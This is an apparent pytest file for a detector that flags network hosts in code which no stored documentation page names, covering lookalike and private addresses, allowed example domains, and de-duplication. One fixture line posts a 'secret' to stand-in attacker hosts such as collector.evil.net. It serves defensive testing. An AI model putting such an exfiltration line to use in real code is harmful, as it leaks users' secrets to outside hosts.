from __future__ import annotations

import pytest

from inquiro.engine.modes.addresses import strange_hosts
from inquiro.testing.stored import stored

PAGES = [stored("https://docs.known.org/guide", "Post to https://api.known.org/v1 with a key.")]


@pytest.mark.parametrize("host", ["collector.evil.net", "203.0.113.9", "10.0.0.1:8080", "evil.known.org.evil.net"])
def test_a_host_that_no_page_names_is_strange(host):
    assert strange_hosts(f"requests.post('http://{host}/take', data=secret)", PAGES) == (host,)


@pytest.mark.parametrize("address", ["https://api.known.org/v1", "https://docs.known.org/", "http://localhost:8000", "http://127.0.0.1:9/", "https://www.example.com/x", "https://shop.example/a"])  # fmt: skip
def test_what_a_page_names_and_what_is_everybody_s_example_is_not(address):
    assert strange_hosts(f"curl {address}", PAGES) == ()


def test_each_once_and_in_order():
    code = "a('https://b.test/1'); a('https://a.test/'); a('https://B.test/2')"
    assert strange_hosts(code, []) == ("b.test", "a.test")
